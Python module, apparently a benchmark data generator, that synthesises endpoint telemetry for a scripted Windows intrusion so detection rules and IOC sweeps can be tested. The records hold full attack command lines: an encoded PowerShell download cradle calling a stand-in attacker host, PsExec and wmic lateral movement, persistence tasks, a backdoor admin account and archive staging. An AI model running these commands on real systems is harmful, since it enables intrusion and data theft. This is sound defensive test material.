r"""An intrusion, end to end, as the agents on two endpoints would report it.

A finance user opens a macro-laden invoice from Outlook (or, in the ``pdf`` variant, a
booby-trapped PDF that drops a script); PowerShell fetches a second stage from the
attacker's server, drops a VBScript and an implant masquerading as ``svchost32.exe``; the
implant persists (scheduled task and run key), enumerates the domain, moves to
``SRV-FILE-01`` with an admin-share mount, PsExec, WMI and a remote scheduled task, and
stages finance data in a 7-Zip archive and a ZIP.

Each step is one record on one endpoint, in time order, with the attack phase it belongs
to, the ATT&CK technique and the detections (`DETECTIONS`) it should trigger. Process
records hang under the benign process tree of the same host (`records.session`), so a
timeline of benign + scenario records reconstructs into one tree; the few pre-existing
processes the story needs (explorer, outlook, services...) are re-sent first as context
steps (``phase=None``), so the scenario's own records also form a complete tree.

The planted IOCs (hashes, the domain, the IP, file names) appear in scenario records only:
benign data is built from the catalogue and reserved names and addresses, so a sweep for
them must return exactly `planted_hits`.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from types import MappingProxyType
from typing import Literal, NamedTuple

from bench.datagen import catalog, records
from bench.datagen.benign import stream_prefix
from bench.datagen.catalog import Autorun, Binary
from bench.datagen.fleet import EndpointSpec, find_endpoint
from bench.datagen.records import Proc, Record
from metrics.clocks import PHASE_KEYS, PHASES_BY_KEY

# Attacker infrastructure: a reserved name (RFC 2606) and a TEST-NET-3 address (RFC 5737),
# so no real host is ever accused and no benign record can contain them.
EVIL_DOMAIN = "officeupdate-cdn.example"
EVIL_IP = "203.0.113.66"
LATERAL_TARGET = "SRV-FILE-01"
_PHASES = ("initial_infection", "persistence", "lateral_movement")  # checked against metrics

Variant = Literal["macro", "pdf"]

# The detections the scenario exercises (rules are written in Sigma elsewhere); a step
# lists the ones it should trigger, and benign data triggers none of them.
DETECTIONS: MappingProxyType[str, str] = MappingProxyType({
    "script_in_user_path": "script file (.ps1 .vbs .js .jse .wsf .hta .bat .cmd) written to or "
                           "run from Temp, AppData, Downloads, Users\\Public or ProgramData root",
    "office_spawns_shell": "Office application spawning a shell or script host",
    "pdf_reader_drops_script": "Acrobat / PDF reader creating an executable or script",
    "shell_unusual_parent": "shell or script host under w3wp, sqlservr, Office or a PDF reader",
    "net_recon": "net.exe / net1.exe group, localgroup or user enumeration, net user /add",
    "suspicious_powershell": "encoded command, download cradle, hidden window or "
                             "-ExecutionPolicy Bypass",
    "network_logon_unusual_source": "logon type 3 from a workstation",
    "psexec": "PsExec: PSEXESVC service, psexesvc.exe running, psexec.exe \\\\host",
    "wmi_remote_exec": "wmic /node: process call create, wmiprvse.exe spawning a shell",
    "admin_share_mount": "net use \\\\host\\c$ (admin shares)",
    "remote_scheduled_task": "schtasks /create /s <host>",
    "archive_in_staging_path": "archive or encrypted file header in user or staging paths",
    "new_persistence": "new service, scheduled task, run key or WMI subscription",
})  # fmt: skip

# Which record columns an IOC of each type is matched against (exact, lower-case).
IOC_COLUMNS: MappingProxyType[str, tuple[str, ...]] = MappingProxyType({
    "sha256": ("sha256",),
    "md5": ("md5",),
    "sha1": ("sha1",),
    "domain": ("dns_query", "remote_hostname"),
    "ip": ("remote_ip", "source_ip"),
    "file_name": ("file_name", "process_name"),
})  # fmt: skip


@dataclass(frozen=True, slots=True)
class Step:
    """One record of the story and why it is there."""

    endpoint: EndpointSpec
    record: Record
    description: str
    phase: str | None  # one of metrics.clocks.PHASE_KEYS; None for context records
    technique: str | None = None  # MITRE ATT&CK id
    signals: tuple[str, ...] = ()  # keys of DETECTIONS this record should trigger


@dataclass(frozen=True, slots=True)
class PlantedIOCs:
    """The indicators a threat-intel feed would publish about this intrusion."""

    sha256: frozenset[str]
    md5: frozenset[str]
    sha1: frozenset[str]
    domains: frozenset[str]
    ips: frozenset[str]
    file_names: frozenset[str]

    def items(self) -> Iterator[tuple[str, str]]:
        """(type, value) pairs; types are the keys of `IOC_COLUMNS`."""
        for ioc_type, values in (
            ("sha256", self.sha256),
            ("md5", self.md5),
            ("sha1", self.sha1),
            ("domain", self.domains),
            ("ip", self.ips),
            ("file_name", self.file_names),
        ):
            for value in sorted(values):
                yield ioc_type, value


@dataclass(frozen=True)
class Scenario:
    name: str
    variant: Variant
    patient_zero: EndpointSpec
    lateral_target: EndpointSpec
    steps: tuple[Step, ...]
    iocs: PlantedIOCs
    endpoints: tuple[EndpointSpec, ...] = field(init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "endpoints", (self.patient_zero, self.lateral_target))

    def records(self) -> Iterator[tuple[EndpointSpec, Record]]:
        """The steps as ``(endpoint, record)`` pairs, in time order (what agents send)."""
        for step in self.steps:
            yield step.endpoint, step.record


def scenario_phases(scenario: Scenario) -> dict[str, list[Step]]:
    """The scenario's steps grouped by attack phase, every phase present, context left out."""
    phases: dict[str, list[Step]] = {key: [] for key in PHASE_KEYS}
    for step in scenario.steps:
        if step.phase is not None:
            phases[step.phase].append(step)
    return phases


def planted_hits(scenario: Scenario) -> dict[tuple[str, str], frozenset[tuple[str, str]]]:
    """For each planted IOC, the ``(hostname, event_id)`` of every record it matches.

    A sweep over benign + scenario telemetry must find exactly these, using the columns
    in `IOC_COLUMNS`.
    """
    hits: dict[tuple[str, str], set[tuple[str, str]]] = {}
    for ioc_type, value in scenario.iocs.items():
        found = hits.setdefault((ioc_type, value), set())
        for step in scenario.steps:
            if any(step.record.get(c) == value for c in IOC_COLUMNS[ioc_type]):
                found.add((step.endpoint.hostname, step.record["event_id"]))
    return {key: frozenset(found) for key, found in hits.items()}


# -- building the story --------------------------------------------------------------------


def _encoded(script: str) -> str:
    """PowerShell's -EncodedCommand form: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _hashes(name: str, seed: int) -> tuple[str, str, str]:
    """(md5, sha1, sha256) of a malicious file: fixed by its name and the seed."""
    ident = f"malware|{name}|{seed}"
    return (
        catalog.digest("md5", ident),
        catalog.digest("sha1", ident),
        catalog.digest("sha256", ident),
    )


def _malware(key: str, display_path: str, seed: int, version: str = "10.0.19041.1") -> Binary:
    """A malicious PE masquerading as a Microsoft binary, unsigned, with planted hashes."""
    md5, sha1, sha256 = _hashes(catalog.basename(display_path).lower(), seed)
    path = display_path.lower()
    fields = {
        "md5": md5,
        "sha1": sha1,
        "sha256": sha256,
        "original_file_name": "svchost.exe",
        "pe_description": "Host Process for Windows Services",
        "pe_product": "Microsoft® Windows® Operating System",
        "pe_company": "Microsoft Corporation",
        "pe_file_version": version,
        "imphash": catalog.digest("md5", f"malware-imphash|{seed}"),
    }
    return Binary(
        key, display_path, path, catalog.basename(path), version, md5, sha1, sha256, fields
    )


def _moved(binary: Binary, display_path: str) -> Binary:
    """The same file (same hashes) copied somewhere else."""
    return replace(
        binary,
        display_path=display_path,
        path=display_path.lower(),
        name=catalog.basename(display_path).lower(),
    )


class Why(NamedTuple):
    """Why a step is in the story: what happens, the ATT&CK technique, expected detections."""

    description: str
    technique: str | None = None
    signals: tuple[str, ...] = ()


def _why(description: str, technique: str | None = None, *signals: str) -> Why:
    unknown = set(signals) - set(DETECTIONS)
    if unknown:
        raise ValueError(f"unknown detections {sorted(unknown)}")
    return Why(description, technique, signals)


class _Story:
    """Accumulates steps on the current host and phase, with a clock, an event-id prefix
    and a pid counter per endpoint."""

    def __init__(self, start: datetime, seed: int) -> None:
        self.start = start
        self.seed = seed
        self.rng = random.Random(f"intrusion|{seed}|{start.isoformat()}")
        self.clock = start
        self.steps: list[Step] = []
        self.counters: dict[str, int] = {}
        self.pids: dict[str, int] = {}
        self.host: EndpointSpec | None = None
        self.phase = ""
        self.who = "system"
        self.integrity = "system"

    def on(self, host: EndpointSpec, phase: str, who: str = "system", integrity: str = "system"):
        """Following steps happen on ``host``, in ``phase``, as ``who`` unless told."""
        self.host, self.phase, self.who, self.integrity = host, phase, who, integrity

    def wait(self, seconds: float) -> None:
        self.clock += timedelta(seconds=seconds)

    def image(self, key: str) -> Binary:
        return records.image(self._host(), key)

    def _host(self) -> EndpointSpec:
        if self.host is None:
            raise RuntimeError("call on() first")
        return self.host

    def _emit(self, record: Record, why: Why, phase: str | None = None) -> Record:
        host = self._host()
        n = self.counters.get(host.agent_id, 0)
        self.counters[host.agent_id] = n + 1
        record["event_id"] = f"{stream_prefix('sc', host, self.start, self.seed)}{n}"
        record["observed_at"] = self.clock
        self.steps.append(Step(host, record, why.description, phase, why.technique, why.signals))
        self.wait(1 + self.rng.random())
        return record

    def _pid(self) -> int:
        host = self._host()
        # Far above the benign streams' pids, so a merged timeline never reuses one.
        pid = self.pids.get(host.agent_id, 70000 + 4 * self.rng.randrange(0, 500))
        pid += 4 * self.rng.randint(1, 40)
        self.pids[host.agent_id] = pid
        return pid

    # -- one method per record kind

    def context(self, *keys: str) -> None:
        """Re-send the snapshot of session processes ``keys`` and their ancestors."""
        session = records.session(self._host())
        by_pid = {r["pid"]: r for r in session.snapshot}
        wanted: set[int] = set()
        for key in keys:
            pid = session.procs[key].pid
            while pid and pid not in wanted:
                wanted.add(pid)
                pid = by_pid[pid]["ppid"]
        boot = self.start - session.boot_offset
        for record in session.snapshot:
            if record["pid"] in wanted:
                what = f"context: {record['process_name']} (pid {record['pid']}) already runs"
                self._emit({**record, "started_at": boot}, Why(what), phase=None)

    def process(
        self,
        binary: Binary,
        parent: Proc,
        why: Why,
        *,
        args: str = "",
        typed: str | None = None,
        who: str | None = None,
        integrity: str | None = None,
    ) -> Proc:
        proc, record = records.process_record(
            self._host(),
            binary,
            key=binary.key,
            pid=self._pid(),
            parent=parent,
            args=args,
            who=who or self.who,
            integrity=integrity or self.integrity,
            event=True,
            typed=typed,
        )
        record["started_at"] = self.clock
        self._emit(record, why, self.phase)
        return proc

    def net_command(self, shell: Proc, typed: str, why: Why) -> None:
        """``net ...`` typed in a shell: net.exe runs and hands the work to net1.exe."""
        net = self.process(self.image("net"), shell, why, typed=typed)
        net1 = "C:\\Windows\\system32\\net1 " + typed.split(" ", 1)[1]
        self.process(
            self.image("net1"), net, why._replace(description=f"net.exe runs {net1}"), typed=net1
        )

    def file(
        self,
        actor: Proc,
        display_path: str,
        why: Why,
        *,
        size: int,
        header: str,
        hashes: tuple[str, str, str] | None = None,
    ) -> None:
        record = records.file_record(
            actor, display_path, when=self.clock, size=size, header_hex=header, hashes=hashes
        )
        self._emit(record, why, self.phase)

    def dropped(self, actor: Proc, binary: Binary, why: Why, size: int) -> None:
        """A known executable written to disk (its own hashes, a PE header)."""
        path = records.resolve(binary.display_path, self._host())
        hashes = (binary.md5, binary.sha1, binary.sha256)
        self.file(actor, path, why, size=size, header=catalog.HEADER_PE, hashes=hashes)

    def connect(self, actor: Proc, ip: str, port: int, hostname: str | None, why: Why) -> None:
        record = records.network_record(
            actor,
            local_ip=self._host().primary_ip,
            local_port=self.rng.randint(49152, 65535),
            remote_ip=ip,
            remote_port=port,
            remote_hostname=hostname,
        )
        self._emit(record, why, self.phase)

    def resolve(self, actor: Proc, name: str, ip: str) -> None:
        why = Why(f"{actor.name} resolves {name} to {ip}", "T1071.004")
        self._emit(records.dns_record(actor, name, (ip,)), why, self.phase)

    def autorun(self, item: Autorun, binary: Binary, why: Why) -> None:
        record = records.autorun_record(self._host(), item, binary)
        record["action"] = "create"
        self._emit(record, why, self.phase)

    def registry(self, actor: Proc, key: str, value: str, why: Why) -> None:
        self._emit(records.registry_record(actor, key, value), why, self.phase)

    def logon(self, source: EndpointSpec, user: str, auth: str, why: Why) -> None:
        """A network logon (type 3) from ``source``: unusual, since it is a workstation."""
        record = records.logon_record(
            logon_type=3,
            target_user_name=user,
            auth_package=auth,
            source_ip=source.primary_ip,
            source_hostname=source.fqdn,
            logon_id=f"0x{self.rng.getrandbits(28):x}",
        )
        self._emit(record, why._replace(signals=("network_logon_unusual_source",)), self.phase)


def _pick_patient_zero(
    fleet: Sequence[EndpointSpec], variant: Variant, rng: random.Random
) -> EndpointSpec:
    """A Windows workstation with a user, preferably in Finance (invoices are their job)."""
    candidates = [
        e for e in fleet if e.os_family == "windows" and e.role == "workstation" and e.primary_user
    ]
    if not candidates:
        raise ValueError("the intrusion needs a Windows workstation: use generate_fleet(n >= 2)")

    def fit(e: EndpointSpec) -> tuple[bool, bool]:
        reader = variant != "pdf" or "acrobat" in e.software
        return (reader, e.department == "Finance")

    best = max(fit(e) for e in candidates)
    return rng.choice([e for e in candidates if fit(e) == best])


_CMD = r'"C:\Windows\System32\cmd.exe"'
_WSCRIPT = r'"C:\Windows\System32\WScript.exe"'
_POWERSHELL = r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"'


def intrusion_scenario(
    fleet: Sequence[EndpointSpec], start: datetime, seed: int, *, variant: Variant = "macro"
) -> Scenario:
    """The intrusion on ``fleet``, beginning at ``start``; deterministic for the arguments.

    ``variant="pdf"`` replaces the macro document with a malicious PDF whose reader drops
    and runs ``readme.js``; everything after the first PowerShell is the same.
    """
    if start.tzinfo is None:
        raise ValueError("start must be timezone-aware (UTC)")
    try:
        target = find_endpoint(fleet, LATERAL_TARGET)
    except KeyError:
        raise ValueError(
            f"the intrusion moves to {LATERAL_TARGET}: use generate_fleet(n >= 2)"
        ) from None
    s = _Story(start, seed)
    pz = _pick_patient_zero(fleet, variant, s.rng)
    here, there = records.session(pz).procs, records.session(target).procs
    ii, per, lm = (PHASES_BY_KEY[k].key for k in _PHASES)
    account = f"{pz.netbios_domain}\\{pz.primary_user}"
    home = rf"C:\Users\{pz.primary_user}"
    vbs_path = rf"{home}\AppData\Local\Temp\update.vbs"
    implant = _malware("svchost32", rf"{home}\AppData\Roaming\Microsoft\svchost32.exe", seed)
    remote_implant = _moved(implant, r"C:\ProgramData\svchost32.exe")
    browser = "chrome" if "chrome" in here else "msedge"

    s.on(target, lm)
    s.context("services", "svchost_dcom")
    s.on(pz, ii, who="user", integrity="medium")
    s.context(*(("outlook",) if variant == "macro" else ("explorer", browser)))
    s.wait(300)

    # -- a. initial infection
    stage2 = f"http://{EVIL_DOMAIN}/stage2"
    cradle = "powershell.exe -nop -w hidden -enc " + _encoded(
        f"IEX (New-Object Net.WebClient).DownloadString('{stage2}')"
    )
    if variant == "macro":
        doc = "Invoice_2026-11.docm"
        doc_path = rf"{records.outlook_cache_folder(pz)}\{doc}"
        saved = _why(f"Outlook saves the attachment {doc}", "T1566.001")
        s.file(
            here["outlook"],
            doc_path,
            saved,
            size=48_213,
            header=catalog.OOXML_HEADER + "a1b2c3",
            hashes=_hashes(doc.lower(), seed),
        )
        s.wait(15)
        opened = _why(f"the user opens {doc}", "T1204.002")
        word = s.process(s.image("winword"), here["outlook"], opened, args=f'/n "{doc_path}" /o ""')
        s.wait(40)
        macro = _why(
            "the macro starts cmd.exe to run PowerShell",
            "T1059.003",
            "office_spawns_shell",
            "shell_unusual_parent",
        )
        launcher = s.process(s.image("cmd"), word, macro, typed=f"{_CMD} /c {cradle}")
    else:
        doc = "Statement_2026-11.pdf"
        doc_path = rf"{home}\Downloads\{doc}"
        js_path = rf"{home}\Downloads\readme.js"
        s.file(
            here[browser],
            doc_path,
            _why(f"the browser downloads {doc}", "T1566.002"),
            size=183_552,
            header=catalog.HEADER_PDF,
            hashes=_hashes(doc.lower(), seed),
        )
        s.wait(20)
        opened = _why(f"the user opens {doc}", "T1204.002")
        reader = s.process(s.image("acrord32"), here["explorer"], opened, args=f'"{doc_path}"')
        s.wait(8)
        exploit = _why(
            "the PDF's exploit makes Acrobat write readme.js",
            "T1203",
            "pdf_reader_drops_script",
            "script_in_user_path",
        )
        s.file(
            reader,
            js_path,
            exploit,
            size=2_817,
            header="766172207368203d206e657720416374",
            hashes=_hashes("readme.js", seed),
        )
        run_js = _why(
            "Acrobat runs readme.js in the Windows Script Host",
            "T1059.007",
            "shell_unusual_parent",
            "script_in_user_path",
        )
        launcher = s.process(s.image("wscript"), reader, run_js, typed=f'{_WSCRIPT} "{js_path}"')

    hidden = _why(
        "hidden PowerShell with an encoded download cradle", "T1059.001", "suspicious_powershell"
    )
    stager = s.process(s.image("powershell"), launcher, hidden, typed=cradle)
    s.resolve(stager, EVIL_DOMAIN, EVIL_IP)
    s.connect(stager, EVIL_IP, 80, EVIL_DOMAIN, _why("PowerShell fetches /stage2", "T1105"))
    wrote = _why(
        "stage 2 writes update.vbs to the user's Temp folder", "T1105", "script_in_user_path"
    )
    s.file(
        stager,
        vbs_path,
        wrote,
        size=1_942,
        header="4f6e204572726f7220526573756d6520",
        hashes=_hashes("update.vbs", seed),
    )
    bypass = _why(
        "a second PowerShell downloads the implant, bypassing the execution policy",
        "T1059.001",
        "suspicious_powershell",
    )
    fetch = (
        f"(New-Object Net.WebClient).DownloadFile('http://{EVIL_DOMAIN}/payload.bin', "
        f"'{implant.display_path}')"
    )
    downloader = s.process(
        s.image("powershell"),
        stager,
        bypass,
        typed=(f'{_POWERSHELL} -ExecutionPolicy Bypass -WindowStyle Hidden -Command "{fetch}"'),
    )
    s.connect(downloader, EVIL_IP, 80, EVIL_DOMAIN, _why("PowerShell fetches /payload.bin"))
    s.dropped(
        downloader, implant, _why("the implant lands in AppData\\Roaming", "T1105"), size=287_744
    )
    s.wait(3)
    vbs = _why("update.vbs runs from Temp", "T1059.005", "script_in_user_path")
    script_host = s.process(s.image("wscript"), stager, vbs, typed=f'{_WSCRIPT} //B "{vbs_path}"')
    beacon = s.process(implant, script_host, _why("update.vbs starts the implant", "T1036.005"))
    s.connect(beacon, EVIL_IP, 443, EVIL_DOMAIN, _why("the implant beacons to its C2", "T1071.001"))

    # -- b. persistence
    s.on(pz, per, who="user", integrity="medium")
    s.wait(120)
    task = _why(
        "the implant registers a logon task disguised as OneDrive", "T1053.005", "new_persistence"
    )
    s.process(
        s.image("schtasks"),
        beacon,
        task,
        typed=(f'schtasks /create /tn "OneDrive Update" /tr {implant.display_path} /sc onlogon /f'),
    )
    s.autorun(
        Autorun("scheduled_task", r"\OneDrive Update", implant.key),
        implant,
        task._replace(description="the new scheduled task appears in the autoruns"),
    )
    run_key = rf"{catalog.HKCU_RUN}\onedriveupdate"
    run = _why("the implant adds a Run key", "T1547.001", "new_persistence")
    s.registry(beacon, run_key, f'"{implant.display_path}"', run)
    s.autorun(
        Autorun("run_key", "OneDriveUpdate", implant.key, registry_key=run_key),
        implant,
        run._replace(description="the new Run key appears in the autoruns"),
    )

    # -- c. reconnaissance
    s.on(pz, lm, who="user", integrity="medium")
    s.wait(480)
    shell = s.process(
        s.image("cmd"),
        beacon,
        _why("the operator opens a shell", "T1059.003"),
        typed=r"C:\Windows\system32\cmd.exe",
    )
    s.process(s.image("whoami"), shell, _why("whoami /all", "T1033"), typed="whoami /all")
    for typed, technique in (
        ('net group "Domain Admins" /domain', "T1069.002"),
        ("net localgroup administrators", "T1069.001"),
        ("net user /domain", "T1087.002"),
    ):
        s.wait(20)
        s.net_command(shell, typed, _why(typed, technique, "net_recon"))

    # -- d. lateral movement to the file server
    s.wait(600)
    share = f"\\\\{target.hostname.lower()}\\c$"
    smb = _why(f"mount {share}", "T1021.002", "admin_share_mount")
    s.net_command(shell, f"net use {share}", smb)
    s.connect(
        here["system"],
        target.primary_ip,
        445,
        target.fqdn,
        _why("SMB session to the file server", "T1021.002"),
    )
    s.on(target, lm)
    s.logon(pz, account, "ntlm", _why("network logon from the workstation", "T1021.002"))
    s.dropped(
        there["system"],
        remote_implant,
        _why("the implant is copied over the admin share", "T1570"),
        size=287_744,
    )
    s.on(pz, lm, who="user", integrity="medium")
    psexec = s.image("psexec")
    s.dropped(beacon, psexec, _why("the implant drops PsExec", "T1105"), size=716_176)
    remote = _why(f"PsExec to {target.hostname}", "T1569.002", "psexec")
    runner = s.process(psexec, shell, remote, typed=f"psexec.exe \\\\{target.hostname} -s cmd.exe")
    s.connect(runner, target.primary_ip, 445, target.fqdn, remote._replace(signals=()))
    s.on(target, lm)
    s.logon(pz, account, "ntlm", _why("PsExec's network logon", "T1569.002"))
    psexesvc = s.image("psexesvc")
    service = _why("PsExec installs and starts PSEXESVC", "T1569.002", "psexec")
    s.dropped(there["system"], psexesvc, service, size=196_984)
    s.autorun(
        Autorun("service", "PSEXESVC", psexesvc.key),
        psexesvc,
        service._replace(signals=("psexec", "new_persistence")),
    )
    svc = s.process(psexesvc, there["services"], service)
    remote_shell = s.process(
        s.image("cmd"),
        svc,
        _why("PSEXESVC runs cmd.exe as SYSTEM", "T1569.002", "psexec"),
        typed="cmd.exe",
    )
    s.net_command(
        remote_shell,
        "net user svc_backup2 Winter2026! /add",
        _why("a local account is created", "T1136.001", "net_recon"),
    )
    s.net_command(
        remote_shell,
        "net localgroup administrators svc_backup2 /add",
        _why("the account becomes a local administrator", "T1098", "net_recon"),
    )

    s.on(pz, lm, who="user", integrity="medium")
    s.wait(300)
    launch = f"powershell.exe -nop -w hidden -c Start-Process {remote_implant.display_path}"
    wmi = _why("WMI remote process creation", "T1047", "wmi_remote_exec")
    wmic = s.process(
        s.image("wmic"),
        shell,
        wmi,
        typed=f'wmic /node:{target.hostname} process call create "{launch}"',
    )
    s.connect(wmic, target.primary_ip, 135, target.fqdn, wmi._replace(signals=()))
    s.on(target, lm, who=account, integrity="high")
    s.logon(pz, account, "kerberos", _why("WMI's network logon", "T1047"))
    provider = s.process(
        s.image("wmiprvse"),
        there["svchost_dcom"],
        _why("the WMI provider host starts", "T1047"),
        args="-secured -Embedding",
        who="network_service",
        integrity="system",
    )
    shelled = _why(
        "wmiprvse.exe runs hidden PowerShell", "T1047", "wmi_remote_exec", "suspicious_powershell"
    )
    remote_ps = s.process(s.image("powershell"), provider, shelled, typed=launch)
    remote_beacon = s.process(
        remote_implant, remote_ps, _why("the implant runs on the file server", "T1036.005")
    )
    s.connect(
        remote_beacon,
        EVIL_IP,
        443,
        EVIL_DOMAIN,
        _why("the file server beacons to the C2", "T1071.001"),
    )

    s.on(pz, lm, who="user", integrity="medium")
    s.wait(240)
    remote_task = _why("a scheduled task on the file server", "T1053.005", "remote_scheduled_task")
    s.process(
        s.image("schtasks"),
        shell,
        remote_task,
        typed=(
            f'schtasks /create /s {target.hostname.lower()} /ru SYSTEM /tn "OneDrive Update" '
            f"/tr {remote_implant.display_path} /sc onstart /f"
        ),
    )
    s.on(target, lm)
    s.logon(pz, account, "kerberos", _why("the remote Task Scheduler's logon", "T1053.005"))
    s.autorun(
        Autorun("scheduled_task", r"\OneDrive Update", implant.key),
        remote_implant,
        _why("the boot task appears on the file server", "T1053.005", "new_persistence"),
    )

    # -- e. exfiltration staging
    s.on(pz, lm, who="user", integrity="medium")
    s.wait(900)
    seven_zip = s.image("sevenzip")
    if "sevenzip" not in pz.software:  # the operator brings their own copy
        seven_zip = _moved(seven_zip, r"C:\Users\Public\7z.exe")
        s.dropped(beacon, seven_zip, _why("the implant drops 7z.exe", "T1105"), size=571_392)
    archive = r"C:\Users\Public\q4.7z"
    staged = _why(
        "an encrypted 7z archive of the finance share", "T1560.001", "archive_in_staging_path"
    )
    archiver = s.process(
        seven_zip,
        shell,
        staged._replace(signals=()),
        typed=(f"7z.exe a -mhe=on -pQ4-2026! {archive} \\\\{target.hostname}\\Finance\\Q4\\*"),
    )
    s.file(
        archiver,
        archive,
        staged,
        size=48_763_392,
        header=f"{catalog.HEADER_7Z}0004{s.rng.getrandbits(64):016x}",
    )
    s.on(target, lm)
    zip_path = r"C:\PerfLogs\q4_ledgers.zip"
    zipped = _why(
        "PowerShell zips the ledgers into C:\\PerfLogs", "T1560.001", "archive_in_staging_path"
    )
    zipper = s.process(
        s.image("powershell"),
        remote_shell,
        zipped._replace(signals=()),
        typed=(
            f'powershell.exe -NoProfile -Command "Compress-Archive -Path D:\\Shares\\Finance\\Q4 '
            f'-DestinationPath {zip_path}"'
        ),
    )
    s.file(
        zipper,
        zip_path,
        zipped,
        size=31_457_280,
        header=f"{catalog.HEADER_ZIP}14000000080000{s.rng.getrandbits(40):010x}",
    )

    bad_files = [doc.lower(), "update.vbs", implant.name]
    if variant == "pdf":
        bad_files.insert(1, "readme.js")
    digests = [_hashes(name, seed) for name in bad_files]
    iocs = PlantedIOCs(
        md5=frozenset(d[0] for d in digests),
        sha1=frozenset(d[1] for d in digests),
        sha256=frozenset(d[2] for d in digests),
        domains=frozenset({EVIL_DOMAIN}),
        ips=frozenset({EVIL_IP}),
        file_names=frozenset({*bad_files, "q4.7z", "q4_ledgers.zip"}),
    )
    return Scenario(f"intrusion-{variant}", variant, pz, target, tuple(s.steps), iocs)
